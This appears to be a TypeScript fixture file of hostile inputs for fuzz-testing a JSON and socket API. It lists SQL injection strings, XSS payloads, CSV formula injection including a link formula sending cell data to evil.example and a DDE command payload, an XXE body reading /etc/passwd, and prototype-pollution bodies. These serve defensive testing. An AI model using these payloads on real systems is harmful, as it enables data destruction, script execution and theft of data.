/**
 * The inputs an attacker tries first, for the fuzz tests: hostile strings and numbers, raw JSON
 * texts no serializer would write, and content types the API does not speak.
 */

/**
 * The test server for fuzzing: rate limits off (thousands of requests from one address are the
 * point here, and a 429 would hide what lies behind it); the SLA sweep slowed so it never
 * writes between a test's two row counts.
 */
export const FUZZ_ENV = {
  LEEWAY_RATE_LIMIT: '0',
  LEEWAY_INGEST_RATE_LIMIT: '0',
  LEEWAY_SOCKET_RATE_LIMIT: '0',
  LEEWAY_SLA_SWEEP_MS: '60000',
};

/**
 * Generated cases per REST route and per socket event, on top of the fixed hostile inputs (FUZZ_RUNS
 * overrides). Validation answers before any query, so the generator's breadth is the SQLite run's;
 * the PostgreSQL run, with fewer, proves that the refusals write nothing there too.
 */
export const FUZZ_RUNS = Number(process.env.FUZZ_RUNS ?? (process.env.LEEWAY_TEST_DB === 'postgres' ? 40 : 100));

/** SQL an attacker pastes into any text field: must be stored and shown as text. */
export const SQL_INJECTION = [
  "'; DROP TABLE customers;--",
  '" OR 1=1 --',
  "1' OR '1'='1",
  "'); DELETE FROM users WHERE ('1'='1",
  "x\\'; DROP TABLE resolution_log; --",
];
/** Markup and script that must never run where the text is shown. */
export const HTML_INJECTION = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("leeway")</script>',
  'javascript:alert(document.domain)',
  '"><svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
];
/** Spreadsheet formulas: a CSV export must not hand them to Excel as formulas. */
export const CSV_INJECTION = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
/** Text that trips naive code: lone surrogates, bidi overrides, zero-width, NUL, emoji sequences, combining marks. */
export const UNICODE_EDGE = [
  '\ud800',
  'a\udfffb',
  '\ud83d',
  '\u202eevil.exe\u202c',
  '\u200f\u200eright-to-left',
  'zero\u200b\u200c\u200d\ufeffwidth',
  'nul\u0000byte',
  '👩‍👩‍👧‍👦🏳️‍🌈🇺🇦',
  'e\u0301\u0301\u0301\u0301\u0301',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗̻̞',
  'line\u2028sep\u2029para\u0085',
  '\uffff\ufffe\ufdd0',
  '𝕳𝖊𝖑𝖑𝖔 ﷽',
  ' ',
  '',
];
/** Strings that look like numbers to a lax parser. */
export const NUMERIC_STRINGS = ['NaN', 'Infinity', '-Infinity', '1e309', '-0', '0x1F', '1_000', ' 1 ', '٣', '1.0', '9007199254740993'];
/** Numbers at the edges: JSON carries them all (NaN and Infinity become null on the way). */
export const EDGE_NUMBERS = [0, -0, -1, 0.5, 2 ** 31, 2 ** 53 + 2, 1e21, 1e308, -1e308, 5e-324, Number.NaN, Number.POSITIVE_INFINITY];

/** Every hostile string in one list. */
export const HOSTILE_STRINGS = [...SQL_INJECTION, ...HTML_INJECTION, ...CSV_INJECTION, ...UNICODE_EDGE, ...NUMERIC_STRINGS];

/** A JSON text nested `levels` deep: arrays, or objects with one key each. */
export function deepJson(levels: number, kind: 'array' | 'object' = 'array'): string {
  return kind === 'array' ? `${'['.repeat(levels)}${']'.repeat(levels)}` : `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
}

/** A JSON object text of about `bytes` bytes. */
export function oversizedJson(bytes: number): string {
  return JSON.stringify({ padding: 'x'.repeat(bytes) });
}

/** JSON texts and bytes that a well-behaved client never sends, each with what it is. */
export function rawBodies(): { name: string; body: string | Buffer }[] {
  return [
    { name: '10,000 nested arrays', body: deepJson(10_000) },
    { name: '10,000 nested objects', body: deepJson(10_000, 'object') },
    { name: 'not JSON', body: 'hello, world' },
    { name: 'truncated JSON', body: '{"a": [1, 2' },
    { name: 'trailing garbage', body: '{}garbage' },
    { name: 'a lone surrogate escaped in JSON text', body: '{"name":"\\ud800","note":"\\udfff","reason":"\\ud83d"}' },
    { name: 'invalid UTF-8 bytes', body: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]) },
    { name: 'a byte-order mark before the JSON', body: '\ufeff{}' },
    { name: 'prototype pollution through __proto__', body: '{"__proto__":{"isAdmin":true},"a":1}' },
    { name: 'prototype pollution through constructor.prototype', body: '{"constructor":{"prototype":{"isAdmin":true}}}' },
    { name: 'duplicate keys', body: '{"a":1,"a":{"b":2}}' },
    { name: 'a number beyond double range', body: '{"n":1e999999}' },
    { name: 'a bare string', body: '"just a string"' },
    { name: 'null', body: 'null' },
    { name: 'an array', body: '[{}]' },
    { name: 'NUL bytes', body: '{"a":"\u0000"}\u0000' },
  ];
}

/** Content types the JSON API does not speak, with a body to match. */
export const WRONG_CONTENT_TYPES: { type: string; body: string }[] = [
  { type: 'text/plain', body: '{"a":1}' },
  { type: 'application/x-www-form-urlencoded', body: 'a=1&b=%3Cscript%3E' },
  { type: 'multipart/form-data; boundary=x', body: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n' },
  { type: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
  { type: 'application/json; charset=utf-16', body: '{"a":1}' },
];

/** What the server actually receives for `value` sent as JSON: NaN and Infinity become null, -0 becomes 0, undefined keys vanish. */
export const overTheWire = (value: unknown): unknown => (value === undefined ? undefined : JSON.parse(JSON.stringify(value)));
